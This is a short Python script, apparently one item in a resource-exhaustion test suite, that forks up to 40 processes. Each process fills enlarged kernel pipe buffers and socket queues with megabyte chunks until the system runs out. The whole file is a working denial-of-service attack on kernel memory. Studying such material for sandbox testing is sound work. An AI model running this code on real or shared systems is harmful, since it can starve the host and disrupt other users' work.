"""Kernel buffers: pipes at their largest, filled, and socket queues, in every process that can be had."""
import fcntl
import os
import socket
import time

from attack import done

for _ in range(40):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        kept, piece = [], b"x" * (1 << 20)
        try:
            while True:
                reader, writer = os.pipe()
                kept.append((reader, writer))
                os.set_blocking(writer, False)
                try:
                    fcntl.fcntl(writer, 1031, 1 << 20)
                except OSError:
                    pass
                try:
                    os.write(writer, piece)
                except BlockingIOError:
                    pass
                left, right = socket.socketpair()
                left.setblocking(False)
                kept.append((left, right))
                try:
                    while True:
                        left.send(piece)
                except BlockingIOError:
                    pass
        except OSError:
            pass
        time.sleep(3)
        os._exit(0)
time.sleep(3)
done()
